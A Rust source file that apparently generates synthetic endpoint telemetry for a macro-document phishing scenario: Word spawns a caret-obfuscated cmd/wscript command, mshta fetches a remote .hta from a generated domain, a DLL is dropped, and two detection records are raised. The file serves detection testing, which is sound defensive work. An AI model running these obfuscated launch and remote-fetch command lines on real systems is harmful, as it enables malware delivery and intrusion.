//! A document from a mail starts a script that calls out.

use super::{Activity, Cast, Detection, Disposition, techniques as t};

pub fn tell(cast: &mut Cast<'_>) {
    let (domain, address) = (cast.strange_domain(), cast.strange_address());
    let number = cast.draw.number(10_000, 99_999);
    let cache = format!(
        r"{}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\{}",
        cast.profile(),
        cast.draw.hex(8).to_uppercase()
    );
    let document = format!(r"{cache}\Invoice_{number}.docm");
    let script = format!(
        r"{}\AppData\Local\Temp\{}.js",
        cast.profile(),
        cast.draw.letters(7)
    );
    let explorer = cast.desktop();
    let mail = cast.process(
        -1_800_000,
        explorer,
        r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
        r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" "#,
    );
    cast.writes(-9_000, mail, &document);
    let word = cast.process(
        0,
        mail,
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        &format!(
            r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "{document}" /o """#
        ),
    );
    cast.does(
        700,
        word,
        Activity::FileRead {
            path: document.clone(),
        },
    );
    let trust = format!(
        r"HKU\{}\Software\Microsoft\Office\16.0\Word\Security\Trusted Documents\TrustRecords",
        cast.user.sid
    );
    cast.sets(14_000, word, &trust, &document, "enabled");
    cast.does(
        14_600,
        word,
        Activity::ModuleLoad {
            path: r"C:\Program Files\Common Files\microsoft shared\VBA\VBA7.1\VBE7.DLL".to_owned(),
            signer: None,
        },
    );
    cast.writes(15_300, word, &script);
    let shell = cast.process(
        16_000,
        word,
        r"C:\Windows\System32\cmd.exe",
        &format!(r#"cmd.exe /c st^art /m^in wscr^ipt.exe //B //E:jscript "{script}""#),
    );
    let host = cast.process(
        16_400,
        shell,
        r"C:\Windows\System32\wscript.exe",
        &format!(r#"wscript.exe  //B //E:jscript "{script}""#),
    );
    cast.does(
        16_500,
        host,
        Activity::FileRead {
            path: script.clone(),
        },
    );
    cast.ends(shell, 16_900);
    cast.calls(17_800, host, &domain, &address, 443);
    let page = cast.process(
        22_000,
        host,
        r"C:\Windows\System32\mshta.exe",
        &format!("mshta.exe  https://{domain}/q{number}.hta"),
    );
    cast.calls(22_500, page, &domain, &address, 443);
    let dropped = format!(
        r"{}\AppData\Roaming\{}.dll",
        cast.profile(),
        cast.draw.letters(6)
    );
    cast.writes(24_000, page, &dropped);
    cast.does(
        90_000,
        page,
        Activity::Connect {
            address,
            port: 443,
            user_agent: None,
            url: None,
        },
    );

    cast.detects(Detection {
        at: 16_100,
        process: shell,
        pattern: 10353,
        name: "OfficeSpawnedInterpreter",
        description: "An Office application started a command interpreter. Documents with macros do so. Review the document and the command line.",
        severity: 70,
        confidence: 80,
        technique: t::ATTACHMENT,
        disposition: Disposition::Detected,
        prevalence: ("common", "common"),
    });
    cast.detects(Detection {
        at: 22_100,
        process: page,
        pattern: 10362,
        name: "MshtaRemoteContent",
        description: "Mshta ran content from a remote location.",
        severity: 70,
        confidence: 80,
        technique: t::MSHTA,
        disposition: Disposition::Blocked,
        prevalence: ("common", "low"),
    });
}
